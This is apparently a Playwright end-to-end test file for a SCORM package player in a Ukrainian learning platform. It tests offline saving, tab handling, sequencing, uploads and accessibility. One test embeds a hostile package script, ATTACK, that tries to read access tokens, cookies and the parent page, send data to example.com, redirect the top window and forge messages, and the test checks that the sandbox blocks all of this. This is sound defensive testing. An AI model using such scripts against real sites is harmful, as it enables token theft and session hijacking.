import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { beforeAll, expect, inject } from 'vitest';
import { startAttempt } from '../../factories/attempt.ts';
import { aCompany, type Company, type Course, unique } from '../../factories/company.ts';
import { asSystem } from '../../factories/world.ts';
import { aPackage, aPage } from '../../fixtures/packages.ts';
import { accessibilityProblems } from '../../support/browser/accessible.ts';
import { BLANK, signIn, test } from '../../support/browser/browser.ts';
import { holdParts } from '../../support/browser/held-parts.ts';
import { productWorld } from '../../support/product-world.ts';

let company: Company;
let course: Course;
beforeAll(async () => {
  company = await aCompany(productWorld());
  course = await company.aCourse({ materials: 0 });
});

const button = (page: Page | Frame, name: string) => page.getByRole('button', { name, exact: true });

const PLAYER = (page: Page) => page.frames().find((one) => one.url().endsWith('/player'))!;

/** A material with a package, uploaded as a browser does. */
async function aPackageMaterial(bytes: Uint8Array<ArrayBuffer>, within = course) {
  const owner = company.as('owner');
  const of = `/course/course/${within.id}/educational_material/`;
  const { body } = await owner.post(of, { name: unique('Пакет'), type: 'package', next_access: 'free' });
  const id = body.id as number;
  await uploadTo(id, bytes, {}, within);
  return { id, path: `/course/${within.id}/education-materials/${id}` };
}

async function uploadTo(
  material: number,
  bytes: Uint8Array<ArrayBuffer>,
  how: object = {},
  within = course,
): Promise<void> {
  const owner = company.as('owner');
  const uploader = `/api_uploader/v1/course/course/${within.id}/educational_material/${material}/package/`;
  const begun = await owner.post(uploader, { name: 'a.zip', size: bytes.length });
  const { url, headers } = begun.body.upload as { url: string; headers: Record<string, string> };
  expect((await fetch(url, { method: 'PUT', headers, body: bytes })).status).toBe(200);
  const kept = await owner.post(`${uploader}${begun.body.id}/complete/`, how);
  expect([kept.status, kept.text]).toEqual([200, expect.any(String)]);
}

/** The page of the package, inside of the player, inside of the product. */
async function packageFrame(page: Page): Promise<Frame> {
  const player = await (await page.waitForSelector('dialog iframe')).contentFrame();
  let frame: Frame | undefined;
  await expect
    .poll(() => (frame = player!.childFrames().find((one) => one.url().includes('/files/'))))
    .toBeDefined();
  await frame!.waitForLoadState();
  return frame!;
}

const stateOf = async (material: number) => {
  const [row] = await asSystem<{ place: string; status: string }>(productWorld(), [
    "select state #>> '{one,elements,cmi.core.lesson_location}' as place, status from package_tries where material_id = $1",
    [material],
  ]);
  return row;
};

test('a package on a phone goes on through an outage and a reload, and loses nothing', async ({
  page,
  context,
  allowErrors,
}) => {
  allowErrors(/ERR_FAILED|ERR_INTERNET_DISCONNECTED/);
  const { id, path } = await aPackageMaterial(await aPackage());
  await page.setViewportSize({ width: 360, height: 740 });
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const first = await packageFrame(page);
  await first.getByText('Крок 0').waitFor();
  expect(await page.locator('dialog').boundingBox()).toMatchObject({ x: 0, y: 0, width: 360, height: 740 });
  expect(await first.evaluate(() => document.fullscreenEnabled)).toBe(true);
  await button(first, 'Далі').click();
  await page.getByText('Збережено').waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);

  await page.context().setOffline(true);
  await button(first, 'Далі').click();
  await button(first, 'Далі').click();
  await page.getByText('Немає зв’язку').waitFor();
  expect(await stateOf(id)).toMatchObject({ place: '1' });
  // The tab goes, and with it all that the package and its player hold.
  await page.close();
  await context.setOffline(false);
  const later = await context.newPage();
  await later.setViewportSize({ width: 360, height: 740 });
  await signIn(later, company.people.student);
  // What waits is sent from any screen.
  await expect.poll(() => stateOf(id)).toMatchObject({ place: '3' });
  await later.goto(path);
  await button(later, 'Продовжити').click();
  const second = await packageFrame(later);
  await second.getByText('Крок 3').waitFor();
  await second.getByText('step=3').waitFor();
  await later.reload();
  const third = await packageFrame(later);
  await third.getByText('Крок 3').waitFor();
  await button(third, 'Скласти').click();
  await expect.poll(() => stateOf(id)).toEqual({ place: '3', status: 'completed' });

  await later.goBack();
  await later.locator('dialog').waitFor({ state: 'detached' });
  await later.getByText('90 %').first().waitFor();
  await button(later, 'Почати спочатку').waitFor();
  expect(await accessibilityProblems(later)).toEqual([]);
});

test('who was in the middle of a package that all begin anew is told so, and begins it', async ({ page }) => {
  const { id, path } = await aPackageMaterial(await aPackage());
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  await button(await packageFrame(page), 'Далі').click();
  await page.getByText('Збережено').waitFor();
  await button(page, 'Повернутися').click();
  await button(page, 'Продовжити').waitFor();
  await uploadTo(id, await aPackage({ title: 'Нова' }), { restart: true });
  await page.reload();
  await page.getByText('ви починаєте нову версію спочатку').waitFor();
  await button(page, 'Відкрити').click();
  await (await packageFrame(page)).getByText('Крок 0').waitFor();
});

test('a package whose beginning the line does not bring says so, and is begun anew', async ({
  page,
  allowErrors,
}) => {
  allowErrors(/ERR_FAILED/);
  const { path } = await aPackageMaterial(await aPackage());
  await page.setViewportSize({ width: 360, height: 740 });
  await signIn(page, company.people.student);
  await page.goto(path);
  await page.route('**/try', (route) => route.abort());
  await button(page, 'Відкрити').click();
  await page.getByRole('alert').filter({ hasText: 'Не вдалося відкрити пакет.' }).waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);
  await page.unroute('**/try');
  await button(page, 'Спробувати знову').click();
  await (await packageFrame(page)).getByText('Крок 0').waitFor();
  expect(await page.getByRole('alert').count()).toBe(0);
});

test('a page that was asked for without a connection comes with it', async ({ page, allowErrors }) => {
  allowErrors(/ERR_INTERNET_DISCONNECTED/);
  const items = ['one', 'two'].map((id) => ({ id, title: id, href: `${id}.html` }));
  const { id, path } = await aPackageMaterial(await aPackage({ items }));
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  await button(await packageFrame(page), 'Далі').click();
  await page.getByText('Збережено').waitFor();
  await page.context().setOffline(true);
  await button(PLAYER(page), 'Далі').click();
  const shown = () => PLAYER(page).childFrames()[0]?.url();
  await expect.poll(shown).toContain('chrome-error:');
  await page.context().setOffline(false);
  await expect.poll(shown).toContain('two.html');
  await (await packageFrame(page)).getByText('Крок 0').waitFor();
  await button(await packageFrame(page), 'Скласти').click();
  await expect.poll(() => stateOf(id)).toMatchObject({ place: '1' });
});

test('who works on while a test closes the material, or past the end of the address, loses nothing', async ({
  page,
  allowErrors,
}) => {
  allowErrors(/status of 40[13]/);
  const own = await company.aCourse({ materials: 0 });
  const exam = await company.anExam({ course: own });
  const { id, path } = await aPackageMaterial(await aPackage(), own);
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const on = button(await packageFrame(page), 'Далі');
  await on.click();
  await page.getByText('Збережено').waitFor();
  const attempt = await startAttempt(company.as('student'), exam);
  await on.click();
  await page.getByText('Матеріал зараз закрито').waitFor();
  expect(await stateOf(id)).toMatchObject({ place: '1' });
  expect(await accessibilityProblems(page)).toEqual([]);
  await attempt.finish();
  await on.click();
  await page.getByText('Збережено').waitFor();
  expect(await stateOf(id)).toMatchObject({ place: '3' });

  // The player asks for another address, and goes on by it.
  const isRenewed = page.waitForRequest((request) => request.url().endsWith('/package/start/'));
  await page.route('**/commit', (route) => route.fulfill({ status: 401, json: {} }), { times: 1 });
  await on.click();
  await isRenewed;
  await expect.poll(() => stateOf(id)).toMatchObject({ place: '4' });
  await page.getByText('Збережено').waitFor();
});

test('a state in letters of two bytes is kept, whatever would outlive its page', async ({ page }) => {
  const long = `<script>document.getElementById('on').onclick = () => {
    api.LMSSetValue('cmi.core.lesson_location', 'far');
    api.LMSSetValue('cmi.suspend_data', 'ї'.repeat(40000));
    api.LMSCommit('');
  };</script>`;
  const { id, path } = await aPackageMaterial(
    await aPackage({ files: { 'index.html': aPage('1.2', long) } }),
  );
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  await button(await packageFrame(page), 'Далі').click();
  await expect.poll(() => stateOf(id)).toMatchObject({ place: 'far' });
  await page.getByText('Збережено').waitFor();
});

test('the tab that opened a package last has it, and the other one is told', async ({
  page,
  allowErrors,
}) => {
  // The one that lost it may ask once more.
  allowErrors(/status of 409/);
  const { path } = await aPackageMaterial(await aPackage());
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const first = await packageFrame(page);
  const other = await page.context().newPage();
  await other.goto(path);
  await button(other, 'Відкрити').click();
  await button(await packageFrame(other), 'Далі').click();
  await other.getByText('Збережено').waitFor();
  await page.getByText(/відкрито в іншій вкладці/).waitFor();
  await expect(button(first, 'Далі').click({ timeout: 500 })).rejects.toThrow();
  await button(page, 'Продовжити тут').click();
  await expect.poll(async () => (await packageFrame(page)).getByText('Крок 1').count()).toBe(1);
  await other.close();
});

/** What a package tries that wants more than it is given; each answer stands in the page. */
const ATTACK = `<script>
const tries = {
  storage: () => top.localStorage.getItem('access'),
  document: () => top.document.body.innerHTML,
  cookie: () => document.cookie || 'none',
  api: () => fetch('PRODUCT_URL/api/v1/accounts/user_info/', { credentials: 'include' }).then((r) => r.status),
  elsewhere: () => fetch('https://example.com/?' + document.title).then((r) => r.status),
  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = () => no(new Error('refused')); i.src = 'PRODUCT_URL/icon.svg'; }),
  window: () => String(open('PRODUCT_URL/')),
  domain: () => { parent.document.domain = parent.document.domain; return 'set'; },
  leave: () => { top.location = 'PRODUCT_URL/login'; return 'asked'; },
  others: () => fetch('/' + 'a.b.c' + '/files/index.html').then((r) => r.status),
  product: () => fetch('/api/v1/accounts/user_info/').then((r) => r.status),
  home: () => fetch('/').then((r) => r.status),
  form: () => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', target: '_top', action: 'PRODUCT_URL/api/v1/accounts/logout/' });
    document.body.append(form);
    form.submit();
    return 'asked';
  },
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { found[name] = String(await attempt()); } catch (error) { found[name] = 'refused: ' + error.name; }
  }
  const frame = document.createElement('iframe');
  frame.src = 'PRODUCT_URL/login';
  document.body.append(frame);
  for (const target of [parent, top]) target.postMessage({ kind: 'state', sequence: 1, body: 'x', access: true }, '*');
  top.postMessage({ kind: 'open', url: 'javascript:alert(1)' }, '*');
  const out = document.createElement('pre');
  out.id = 'found';
  out.textContent = JSON.stringify(found);
  document.body.append(out);
})();
</script>`;

test('a package that tries to reach the product, or anybody else, reaches nothing', async ({
  page,
  allowErrors,
}) => {
  allowErrors(/./);
  const origin = new URL(inject('product').url).origin;
  const evil = aPage('1.2', ATTACK.replaceAll('PRODUCT_URL', origin));
  const { path } = await aPackageMaterial(await aPackage({ files: { 'index.html': evil, 'evil.js': '1' } }));
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const frame = await packageFrame(page);
  const found = JSON.parse((await frame.locator('#found').textContent())!) as Record<string, string>;
  expect(found).toEqual({
    storage: 'refused: SecurityError',
    document: 'refused: SecurityError',
    cookie: 'none',
    api: 'refused: TypeError',
    elsewhere: 'refused: TypeError',
    picture: 'refused: Error',
    window: 'null',
    domain: 'refused: SecurityError',
    leave: expect.stringMatching(/^(refused: SecurityError|asked)$/),
    others: '404',
    product: '404',
    home: '404',
    form: 'asked',
  });
  expect(new URL(page.url()).pathname).toBe(path);
  expect(frame.childFrames().some((child) => child.url().startsWith(`${origin}/login`))).toBe(false);
  // What it said in the player's name is kept of its own try at most.
  const keys = await page.evaluate(() =>
    Object.keys(localStorage).filter((key) => key.startsWith('osnova.package.')),
  );
  expect(keys.length).toBeLessThanOrEqual(1);
  expect(await page.evaluate(() => localStorage.getItem('access'))).toBeTruthy();
});

/** A package that speaks to whatever shares its origin, and tells whom it hears. Some browsers give it no storage. */
const NEIGHBOUR = (name: string) =>
  `<button id="look" type="button">Шукати</button><script>
  const [mouth, ear] = [new BroadcastChannel('all'), new BroadcastChannel('all')];
  const heard = [];
  ear.onmessage = ({ data }) => {
    heard.push(data);
    document.title = heard.join();
  };
  document.getElementById('look').onclick = () => mouth.postMessage('NAME');
</script>`.replaceAll('NAME', name);

test('two packages that are open at once in one browser find nothing of each other', async ({ page }) => {
  const open = async (tab: Page, name: string) => {
    const files = { 'index.html': aPage('1.2', NEIGHBOUR(name)) };
    const { path } = await aPackageMaterial(await aPackage({ files }));
    await tab.goto(path);
    await button(tab, 'Відкрити').click();
    return packageFrame(tab);
  };
  await signIn(page, company.people.student);
  const first = await open(page, 'first');
  const other = await page.context().newPage();
  const second = await open(other, 'second');
  expect(new URL(second.url()).host).not.toBe(new URL(first.url()).host);
  // What one says reaches whoever shares its host before the next word does.
  const told = (frame: Frame) => expect.poll(() => frame.title());
  await button(first, 'Шукати').click();
  await told(first).toBe('first');
  await button(second, 'Шукати').click();
  await told(second).toBe('second');
  await other.close();
});

test('items that say nothing but that they begin and end are complete, one after the other', async ({
  page,
}) => {
  const silent = `<!doctype html><meta name="viewport" content="width=device-width"><p>Сторінка</p><script>
    onload = () => parent.API.LMSInitialize('');
    onpagehide = () => parent.API.LMSFinish('');
  </script>`;
  const items = ['one', 'two'].map((id) => ({ id, title: `Розділ ${id}`, href: `${id}.html` }));
  const files = { 'one.html': silent, 'two.html': silent };
  const { id, path } = await aPackageMaterial(await aPackage({ items, files }));
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  await packageFrame(page);
  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
  await button(player, 'Далі').click();
  await expect.poll(() => player.childFrames()[0]?.url()).toContain('two.html');
  await button(player, 'Назад').click();
  await expect.poll(() => stateOf(id)).toMatchObject({ status: 'completed' });
});

test('rules open one item after the other, and a person goes on where they were', async ({ page }) => {
  const told =
    '<imsss:deliveryControls completionSetByContent="true" objectiveSetByContent="true"/><imsss:objectives>';
  const first = `${told}<imsss:primaryObjective objectiveID="a"><imsss:mapInfo targetObjectiveID="g" writeSatisfiedStatus="true"/></imsss:primaryObjective></imsss:objectives>`;
  const after = `<imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions conditionCombination="any">
    <imsss:ruleCondition referencedObjective="b" operator="not" condition="objectiveStatusKnown"/></imsss:ruleConditions>
    <imsss:ruleAction action="disabled"/></imsss:preConditionRule></imsss:sequencingRules>
    ${told}<imsss:primaryObjective objectiveID="own"/><imsss:objective objectiveID="b"><imsss:mapInfo targetObjectiveID="g"/></imsss:objective></imsss:objectives>`;
  const items = [
    { id: 'one', title: 'Вступ', href: 'one.html', sequencing: first },
    { id: 'two', title: 'Перевірка', href: 'two.html', sequencing: after },
  ];
  const sequencing = '<imsss:controlMode choice="true" flow="true"/>';
  const bytes = await aPackage({ standard: '2004', items, sequencing });
  const { id, path } = await aPackageMaterial(bytes);
  await page.setViewportSize({ width: 360, height: 740 });
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const item = await packageFrame(page);
  const next = button(PLAYER(page), 'Далі');
  await expect.poll(() => next.isDisabled()).toBe(true);
  expect(await PLAYER(page).locator('option[value=two]').getAttribute('disabled')).not.toBeNull();
  await button(item, 'Далі').click();
  await button(item, 'Скласти').click();
  await expect.poll(() => next.isEnabled()).toBe(true);
  await next.click();
  await expect.poll(() => PLAYER(page).childFrames()[0]?.url()).toContain('two.html');
  await button(await packageFrame(page), 'Далі').click();
  await page.getByText('Збережено').waitFor();
  await page.reload();
  const again = await packageFrame(page);
  expect(again.url()).toContain('two.html');
  await again.getByText('Крок 1').waitFor();
  await button(again, 'Скласти').click();
  expect(await accessibilityProblems(page)).toEqual([]);
  // The last way on is the way out.
  await button(PLAYER(page), 'Далі').click();
  await page.locator('dialog').waitFor({ state: 'detached' });
  await expect.poll(() => stateOf(id)).toMatchObject({ status: 'completed' });
});

test('who goes out comes back to the page they left, wherever its last words lead', async ({ page }) => {
  const says = (at: string, last = '') =>
    `<!doctype html><html lang="uk"><meta name="viewport" content="width=device-width"><title>${at}</title><p>${at}</p>
    <script>const api = parent.API_1484_11; api.Initialize('');
      onpagehide = () => { ${last} api.Terminate(''); };</script></html>`;
  const on = "api.SetValue('adl.nav.request', 'continue');";
  const items = ['one', 'two'].map((id) => ({ id, title: id, href: `${id}.html` }));
  const files = { 'one.html': says('Перша', on), 'two.html': says('Друга') };
  const sequencing = '<imsss:controlMode flow="true"/>';
  const bytes = await aPackage({ standard: '2004', items, files, sequencing });
  const { path } = await aPackageMaterial(bytes);
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  await (await packageFrame(page)).getByText('Перша').waitFor();
  await button(page, 'Повернутися').click();
  await page.locator('dialog').waitFor({ state: 'detached' });
  await button(page, 'Продовжити').click();
  await (await packageFrame(page)).getByText('Перша').waitFor();
});

// Captivate and Xerte keep what they have at no other moment, and no browser asks it of a frame that is taken away.
test('what a package says before its page unloads is kept by each way out, and asked for once', async ({
  page,
}) => {
  const inner = `<!doctype html><html lang="uk"><title>Сторінка</title><p></p><script>
    const api = parent.parent.API; api.LMSInitialize(''); api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
    let said = Number(api.LMSGetValue('cmi.suspend_data') || 0);
    document.querySelector('p').textContent = 'Сказано ' + said;
    onbeforeunload = () => { said += 1; api.LMSSetValue('cmi.suspend_data', String(said)); };</script></html>`;
  const files = {
    'index.html':
      '<!doctype html><html lang="uk"><title>Рамка</title><iframe title="Сторінка" src="inner.html"></iframe></html>',
    'inner.html': inner,
  };
  const { path } = await aPackageMaterial(await aPackage({ files }));
  await signIn(page, company.people.student);
  await page.goto(path);
  const isSaid = async (count: number) =>
    (await packageFrame(page))
      .frameLocator('iframe')
      .getByText(`Сказано ${count}`, { exact: true })
      .waitFor();
  await button(page, 'Відкрити').click();
  await isSaid(0);
  await button(page, 'Повернутися').click();
  await page.locator('dialog').waitFor({ state: 'detached' });
  await button(page, 'Продовжити').click();
  await isSaid(1);
  await page.reload();
  await isSaid(2);
});

test('an old page of a fixed size is shown smaller, opens what it leads to, and is reached by keyboard', async ({
  page,
}) => {
  const wide = aPage('1.2')
    .replace(/<meta name="viewport"[^>]*>/, '')
    .replace('<body>', '<body style="width:980px;margin:0">');
  const items = [
    { id: 'one', title: 'Вступ', href: 'one.html' },
    { id: 'two', title: 'Перевірка', href: 'two.html', needs: 'one="passed"' },
  ];
  const { path } = await aPackageMaterial(
    await aPackage({ items, files: { 'one.html': wide, 'two.html': wide } }),
  );
  await page.setViewportSize({ width: 360, height: 740 });
  await signIn(page, company.people.student);
  await page.goto(path);
  await button(page, 'Відкрити').click();
  const item = await packageFrame(page);
  const shown = await PLAYER(page).locator('main iframe').boundingBox();
  expect(shown!.width).toBeLessThanOrEqual(361);
  expect(await item.evaluate(() => document.documentElement.clientWidth)).toBe(980);
  // Turned, it has the whole height: what is around it stands at its side.
  await page.setViewportSize({ width: 740, height: 360 });
  await expect
    .poll(async () => (await PLAYER(page).locator('main iframe').boundingBox())!)
    .toMatchObject({ y: 0, height: expect.closeTo(360, 0), width: expect.closeTo(740 - 150, -1) });

  // In by Tab, and out again.
  await button(page, 'Повернутися').focus();
  await page.keyboard.press('Tab');
  await expect.poll(() => PLAYER(page).evaluate(() => document.activeElement!.tagName)).toBe('SELECT');
  await page.keyboard.press('Tab');
  await expect.poll(() => item.evaluate(() => document.activeElement!.id)).toBe('on');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect.poll(() => button(PLAYER(page), 'Далі').isEnabled()).toBe(true);
  for (let back = 0; back < 4; back += 1) await page.keyboard.press('Shift+Tab');
  await expect.poll(() => page.evaluate(() => document.activeElement!.textContent)).toBe('Повернутися');
  await page.keyboard.press('Enter');
  await page.locator('dialog').waitFor({ state: 'detached' });
});

test('an author uploads a package, sees what is in it, and reads what students did', async ({ page }) => {
  const name = unique('Охорона праці');
  const two = [
    { id: 'one', title: 'Вступ', href: 'index.html' },
    { id: 'two', title: 'Перевірка', href: 'check.html' },
  ];
  await signIn(page, company.people.owner);
  await page.goto(`/course/${course.id}/education-materials/constructor`);
  await page.getByRole('radio', { name: /^Пакет SCORM/ }).click();
  await page.getByLabel('Назва').fill(name);
  const buffer = Buffer.from(await aPackage({ standard: '2004', items: two }));
  const file = { name: 'course.zip', mimeType: 'application/zip', buffer };
  await page.locator('input[type=file]').first().setInputFiles(file);
  await button(page, 'Створити').click();
  await page.waitForURL(/education-materials$/);
  await page.getByRole('link', { name, exact: true }).click();
  await page.getByText('SCORM 2004 4th Edition').waitFor();
  await page.getByText('Перевірка').waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);

  const path = new URL(page.url()).pathname.replace('/constructor', '');
  await page.goto(path);
  await page.getByText('Спроб ще немає').waitFor();
  await button(page, 'Переглянути як студент').click();
  const frame = await packageFrame(page);
  await button(frame, 'Скласти').click();
  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
  await button(player, 'Далі').click();
  await expect.poll(() => player.childFrames()[0]?.url()).toContain('check.html');
  await button(page, 'Повернутися').click();
  await page.getByText('Спроб ще немає').waitFor();

  await asSystem(productWorld(), [
    `with tried as (insert into package_tries (company_id, user_id, material_id, package_id, number, status, started_at)
        select company_id, $1, material_id, media_id, 1, 'completed', now() from packages where material_id = $2
        returning company_id, id)
      insert into package_interactions (company_id, try_id, item, place, name, description, result)
        select company_id, id, 'two', 0, 'q1', 'Де вихід?', 'correct' from tried`,
    [company.people.student.id, Number(path.split('/').at(-1))],
  ]);
  await page.reload();
  await page.getByText('Де вихід?').waitFor();
  await page.getByText('Правильних відповідей: 100 % із 1 відповіді · Перевірка').waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);
  const saved = page.waitForEvent('download');
  await button(page, 'Завантажити CSV').click();
  const sheet = (await readFile(await (await saved).path(), 'utf8')).split('\r\n');
  expect(sheet[0]).toBe('\uFEFF"Студент","Спроба","Версія","Стан","Бал","Час","Початок"');
  expect(sheet[1]).toMatch(/^"Person Student","1","1","Завершено","","\d+ с","\d{4}-/);

  await page.goto(`/course/${course.id}#analytics`);
  const row = page.getByRole('row', { name: 'Person Student' });
  await row.getByRole('button', { name: /^Дії/ }).click();
  await page.getByRole('menuitem', { name: `Спроби: ${name}` }).click();
  await page.waitForURL(`${path}?search=Person`);
  await row.waitFor();
});

test('an upload that the page took with it goes on when the same file is chosen again', async ({ page }) => {
  const folder = await mkdtemp(join(tmpdir(), 'osnova-package-'));
  const file = join(folder, 'large.zip');
  const film = randomBytes(60 * 1024 ** 2);
  await writeFile(
    file,
    await aPackage({ stored: true, files: { 'index.html': aPage('1.2'), 'a.mp4': film } }),
  );
  const { body } = await company.as('owner').post(`/course/course/${course.id}/educational_material/`, {
    name: unique('Пакет'),
    type: 'package',
    next_access: 'free',
  });
  const screen = `/course/${course.id}/education-materials/${body.id}/constructor`;
  let sent = 0;
  const choose = async (on: Page) => {
    await on.goto(screen);
    sent = 0;
    await on.locator('input[type=file]').first().setInputFiles(file);
  };
  const arrived = (on: Page) =>
    on.evaluate(() => {
      const key = Object.keys(localStorage).find((one) => one.startsWith('osnova.upload.'));
      return key ? (JSON.parse(localStorage.getItem(key)!) as { arrived: unknown[] }).arrived.length : 0;
    });
  // Somebody who may sign out: the other tests go on with the owner's session.
  await signIn(page, await company.aPerson('admin'));
  // The last two never come to their end.
  const letGo = await holdParts(page, [3, 4]);
  await choose(page);
  await expect.poll(() => arrived(page)).toBe(2);
  await page.goto(BLANK);
  await letGo();
  page.on('request', (request) => {
    if (request.method() === 'PUT') sent += 1;
  });
  await choose(page);
  await page.getByText('SCORM 1.2', { exact: true }).waitFor();
  expect(sent).toBe(2);
  expect(await arrived(page)).toBe(0);
  await rm(folder, { recursive: true });
  // Nothing of it stays with whoever uses the browser next.
  await page.evaluate(() => localStorage.setItem('osnova.upload.large', '{"arrived":[1]}'));
  await page.goto('/course');
  await page.getByRole('heading', { level: 1 }).waitFor();
  await page.keyboard.press('Control+k');
  await page.getByRole('option', { name: 'Вийти', exact: true }).click();
  await page.waitForURL('**/login');
  expect(await arrived(page)).toBe(0);
});

test('what could not be read of a package says so, and is read again', async ({
  page,
  otherPage,
  allowErrors,
}) => {
  allowErrors(/status of 500/);
  const { path } = await aPackageMaterial(await aPackage({ standard: '2004' }));
  const asked = /\/package\/(start\/|answers\/|tries\/)?(\?|$)/;
  const json = { detail: 'Internal error', code: 'internal' };
  const fail = (on: Page) => on.route(asked, (route) => route.fulfill({ status: 500, json }));
  const againOn = (on: Page) => button(on, 'Спробувати ще раз');
  const again = againOn(page);
  await signIn(page, company.people.student);
  await fail(page);
  await page.goto(path);
  await again.waitFor();
  await page.unroute(asked);
  await again.click();
  await button(page, 'Відкрити').waitFor();
  await fail(page);
  await button(page, 'Відкрити').click();
  await again.waitFor();
  expect(await accessibilityProblems(page)).toEqual([]);
  await page.unroute(asked);
  await again.click();
  await packageFrame(page);

  await signIn(otherPage, company.people.owner);
  await fail(otherPage);
  for (const [screen, parts, shown] of [
    [path, 3, 'Переглянути як студент'],
    [`${path}/constructor`, 1, 'SCORM 2004 4th Edition'],
  ] as const) {
    await otherPage.goto(screen);
    await expect.poll(() => againOn(otherPage).count()).toBe(parts);
    await otherPage.unroute(asked);
    for (let part = 0; part < parts; part += 1) await againOn(otherPage).first().click();
    await otherPage.getByText(shown).waitFor();
    await againOn(otherPage).waitFor({ state: 'hidden' });
    await fail(otherPage);
  }
});
